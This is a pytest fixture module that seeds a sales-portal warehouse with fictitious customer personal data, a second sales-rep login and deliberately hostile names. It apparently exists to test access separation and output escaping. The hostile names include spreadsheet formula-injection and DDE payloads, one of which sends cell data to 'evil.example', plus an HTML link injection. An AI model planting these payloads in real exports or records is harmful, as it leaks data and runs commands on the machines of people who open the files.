"""The policy tests' warehouse: the portal fixture warehouse plus personal data, source records, a second
sales rep's login, customer and campaign names that carry spreadsheet formulas or markup.

Alice (rep 1, the demo ``sales_rep`` login) owns the even customers and prospect 31; Bob (rep 2, login
``bob``) the odd ones. Customer 3 is Bob's and has every personal-data field filled.
"""

from __future__ import annotations

import datetime as dt
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from dash import Dash
from flask.testing import FlaskClient

from app import create_app
from tests.unit.portal.portal_data import PASSWORD, TODAY, build_portal_warehouse, portal_settings
from tests.unit.portal.portal_data import sign_in as browser_sign_in
from warehouse import users
from warehouse.engine import Warehouse, insert_rows
from warehouse.schema import (
    customer_xref,
    dim_customer,
    golden_field,
    mart_budget_allocation,
    mart_campaign_performance,
    mart_customer_kpi,
    mart_kpi_drivers,
    stg_customer,
)

ALICE_KEY, BOB_KEY = 1, 2
BOB_CUSTOMER = 3
ALICE_CUSTOMER = 2
EVIL_CAMPAIGN = '<a href="https://evil.example">x</a>'
#: Alice's customers whose names a spreadsheet would run (key -> name).
FORMULA_NAMES = {
    4: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    6: "+cmd|' /C calc'!A0",
    8: "=1+2",
    10: "@SUM(1+1)*cmd|' /C calc'!A0",
    12: "-2+3",
    14: "\tTabbed=1",
}
PII = {
    ALICE_CUSTOMER: {
        "phone": "+447700900222",
        "street": "2 Alice Road",
        "postcode": "LS2 7AA",
        "instagram_handle": "@alicecustomer",
    },
    BOB_CUSTOMER: {
        "phone": "+447700900333",
        "street": "3 Bob Lane",
        "postcode": "M3 3BB",
        "instagram_handle": "@bobcustomer",
    },
}


def bob_values() -> list[str]:
    """Values of Bob's customer 3 that must never reach Alice: name, e-mail and every personal field."""
    return ["Customer 03", "buyer03@shop.example", "447700900333", "3 Bob Lane", "M3 3BB", "bobcustomer"]


def _source_rows(key: int) -> tuple[dict[str, Any], dict[str, Any], list[dict[str, Any]]]:
    pii = PII[key]
    email = f"buyer{key:02d}@shop.example"
    staged = {
        "source": "quickbooks",
        "source_key": f"QB-{key}",
        "entity": "Customer",
        "company_name": f"Customer {key:02d}",
        "email": email,
        "phone": pii["phone"],
        "street": pii["street"],
        "postcode": pii["postcode"],
        "land_id": key,
        "batch_id": 1,
    }
    xref = {
        "source": "quickbooks",
        "source_key": f"QB-{key}",
        "customer_key": key,
        "match_rule": "new",
        "batch_id": 1,
    }
    fields = [
        {
            "customer_key": key,
            "field": field,
            "value": value,
            "source": "quickbooks",
            "source_key": f"QB-{key}",
            "rule": "source_priority",
            "candidates": 1,
        }
        for field, value in ({"email": email} | pii).items()
    ]
    return staged, xref, fields


def _driver(member: str, rank: int) -> dict[str, Any]:
    return {
        "period_start": TODAY - dt.timedelta(days=6),
        "baseline": "previous_week",
        "kpi": "revenue",
        "dimension": "campaign",
        "member": member,
        "period_end": TODAY,
        "kpi_before": 1000.0,
        "kpi_after": 1200.0,
        "before_value": 100.0,
        "after_value": 300.0 - 50 * rank,
        "volume_before": 1.0,
        "volume_after": 2.0,
        "mix_effect": 50.0,
        "rate_effect": 50.0,
        "contribution": 200.0 - 50 * rank,
        "share_of_change": 0.5,
        "change_pct": 0.2,
        "rank": rank,
        "summary": "Revenue rose.",
    }


def _campaign(key: int, name: str) -> dict[str, Any]:
    return {
        "campaign_key": key,
        "name": name,
        "channel": "email",
        "spend": 100.0,
        "impressions": 1000,
        "clicks": 10,
        "conversions": 2,
        "customers": 2,
        "revenue": 500.0,
        "roi": 4.0,
    }


def _budget(level: str, name: str) -> dict[str, Any]:
    figures = ("daily_budget", "current_spend", "recommended_spend", "expected_conversions")
    returns = ("expected_return", "current_return", "marginal_return")
    return {"level": level, "name": name, "channel": "email", "share": 0.5, "roi": -0.25} | {
        f: 10.0 for f in figures + returns
    }


def build_policy_warehouse(where: Path | str) -> Warehouse:
    """The portal fixture warehouse with the additions this module's docstring lists."""
    warehouse = build_portal_warehouse(where)
    with warehouse.begin() as conn:
        for key, pii in PII.items():
            conn.execute(dim_customer.update().where(dim_customer.c.customer_key == key).values(**pii))
            staged, xref, fields = _source_rows(key)
            insert_rows(conn, stg_customer, [staged])
            insert_rows(conn, customer_xref, [xref])
            insert_rows(conn, golden_field, fields)
        for key, name in FORMULA_NAMES.items():
            for table in (dim_customer, mart_customer_kpi):
                conn.execute(table.update().where(table.c.customer_key == key).values(name=name))
        insert_rows(conn, mart_kpi_drivers, [_driver(EVIL_CAMPAIGN, 1), _driver("Spring sale", 2)])
        insert_rows(
            conn, mart_campaign_performance, [_campaign(1, EVIL_CAMPAIGN), _campaign(2, "=HYPERLINK(1)")]
        )
        insert_rows(conn, mart_budget_allocation, [_budget("channel", "email"), _budget("campaign", "-1+1")])
    users.create_user(warehouse, "bob", PASSWORD, "sales_rep", "Bob Singh", rep_key=BOB_KEY)
    return warehouse


@pytest.fixture(scope="module")
def policy_warehouse(tmp_path_factory: pytest.TempPathFactory) -> Warehouse:
    return build_policy_warehouse(tmp_path_factory.mktemp("policy") / "warehouse.db")


@pytest.fixture
def policy_app(policy_warehouse: Warehouse, tmp_path: Path) -> Dash:
    return create_app(portal_settings(tmp_path), policy_warehouse)


@pytest.fixture
def policy_client(policy_app: Dash) -> Iterator[FlaskClient]:
    with policy_app.server.test_client() as c:
        yield c


def sign_in(client: FlaskClient, username: str) -> FlaskClient:
    response = browser_sign_in(client, username, PASSWORD)
    assert response.status_code == 303, f"{username} could not sign in"
    return client


def page(client: FlaskClient, path: str) -> str:
    """The page content a signed-in browser gets for ``path``, as JSON text."""
    from tests.unit.portal.portal_data import call_callback

    answer = call_callback(
        client,
        [("_pages_content", "children"), ("_pages_store", "data")],
        [("_pages_location", "pathname", path), ("_pages_location", "search", "")],
    )
    assert answer.status_code == 200, answer.get_data(as_text=True)[:500]
    return json.dumps(answer.get_json()["response"]["_pages_content"]["children"], ensure_ascii=False)


def audit_rows(warehouse: Warehouse, actor: str, action_prefix: str) -> list[dict[str, Any]]:
    from warehouse.schema import ops_audit_log

    t = ops_audit_log.c
    return warehouse.rows(
        sa.select(ops_audit_log).where(t.actor == actor, t.action.startswith(action_prefix)).order_by(t.id)
    )
